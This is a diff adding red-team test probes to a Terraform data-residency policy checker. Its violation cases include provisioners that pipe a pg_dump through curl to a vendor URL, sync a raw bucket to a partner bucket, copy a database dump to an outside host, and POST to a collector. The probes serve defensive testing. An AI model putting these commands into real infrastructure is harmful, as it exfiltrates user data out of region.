@@ -1273,4 +1273,39 @@ export const PROBES: readonly Probe[] = [
   L("legit", "role may read and describe on * and create its function's network interfaces", "data-eu", {
     mutate: rolePolicy("rk-eu-spark-instance", [{ Effect: "Allow", Action: ["ec2:DescribeNetworkInterfaces", "ec2:CreateNetworkInterface", "ec2:DeleteNetworkInterface", "s3:ListAllMyBuckets", "glue:Get*", "cloudwatch:PutMetricData", "xray:PutTraceSegments"], Resource: "*" }]),
   }),
+  // ---- red-team round 4: check blocks, ephemeral resources, provisioners ---------------------------------
+  V("closed-world", "local-exec provisioner on the raw bucket syncs it to a partner bucket", "data-eu", {
+    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === RAW)[1].provisioner = [{ "local-exec": { command: `aws s3 sync s3://${RAW} s3://partner-drop-eu/ --only-show-errors` } }]),
+  }),
+  V("closed-world", "remote-exec provisioner: pg_dump | curl -T to a vendor URL", "data-eu", {
+    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${self.private_ip}", user: "ec2-user" }, provisioner: [{ "remote-exec": { inline: ["pg_dump -h rk-eu-shard-001 app | gzip | curl -sT - https://upload.partner-analytics.com/eu/app.sql.gz"] } }] }),
+  }),
+  V("closed-world", "file provisioner copying a dump to a host at a public address", "data-eu", {
+    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "203.0.113.10", user: "partner" }, provisioner: [{ file: { source: "dump.sql.gz", destination: "/srv/drop/eu.sql.gz" } }] }),
+  }),
+  V("closed-world", "provisioner connection host from a variable", "data-eu", {
+    mutate: (j) => ((j.variable ??= {}).drop_host = { type: "string" }),
+    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${var.drop_host}", user: "partner" }, provisioner: [{ file: { source: "dump.sql.gz", destination: "/srv/drop/eu.sql.gz" } }] }),
+  }),
+  V("closed-world", "check block with a scoped http data source POSTing to a vendor", "data-eu", {
+    mutate: (j) => (j.check = { exporter_reachable: { data: { http: { probe: { url: "https://collect.partner-analytics.com/v1/ping", method: "POST" } } }, assert: [{ condition: "${data.http.probe.status_code == 200}", error_message: "collector down" }] } }),
+  }),
+  V("closed-world", "ephemeral aws_lambda_invocation of a us-east-1 function", "data-eu", {
+    mutate: (j) => (j.ephemeral = { aws_lambda_invocation: { Push: { function_name: `arn:aws:lambda:us-east-1:${EU}:function:rk-eu-collector`, payload: `{"bucket":"${RAW}"}` } } }),
+  }),
+  V("closed-world", "ephemeral resource of an unclassified type (a secret from an outside Vault)", "data-eu", {
+    mutate: (j) => (j.ephemeral = { vault_kv_secret_v2: { Sink: { mount: "kv", name: "exporter/sink" } } }),
+  }),
+  L("legit", "local-exec provisioner copying an artifact inside the artifacts bucket", "data-eu", {
+    mutate: (j) => (find(j, "aws_s3_bucket", (a) => a.bucket === `rk-eu-spark-artifacts-${EU}`)[1].provisioner = [{ "local-exec": { command: `aws s3 cp s3://rk-eu-spark-artifacts-${EU}/bootstrap/a.sh s3://rk-eu-spark-artifacts-${EU}/bootstrap/b.sh --region eu-central-1` } }]),
+  }),
+  L("legit", "remote-exec provisioner restarting a service over the instance's own private address", "data-eu", {
+    add: r("aws_instance", "Jump", { ami: "ami-0123456789abcdef0", instance_type: "t3.micro", subnet_id: "subnet-1", connection: { type: "ssh", host: "${self.private_ip}", user: "ec2-user" }, provisioner: [{ "remote-exec": { inline: ["sudo systemctl restart pgbouncer"] } }] }),
+  }),
+  L("legit", "check block looking up the region's raw bucket", "data-eu", {
+    mutate: (j) => (j.check = { raw_exists: { data: { aws_s3_bucket: { Raw: { bucket: RAW } } }, assert: [{ condition: "${data.aws_s3_bucket.Raw.bucket_regional_domain_name != \"\"}", error_message: "raw bucket missing" }] } }),
+  }),
+  L("legit", "ephemeral read of the region's own secret", "data-eu", {
+    mutate: (j) => (j.ephemeral = { aws_secretsmanager_secret_version: { Db: { secret_id: `arn:aws:secretsmanager:eu-central-1:${EU}:secret:rk-eu-db-AbCdEf` } } }),
+  }),
 ];
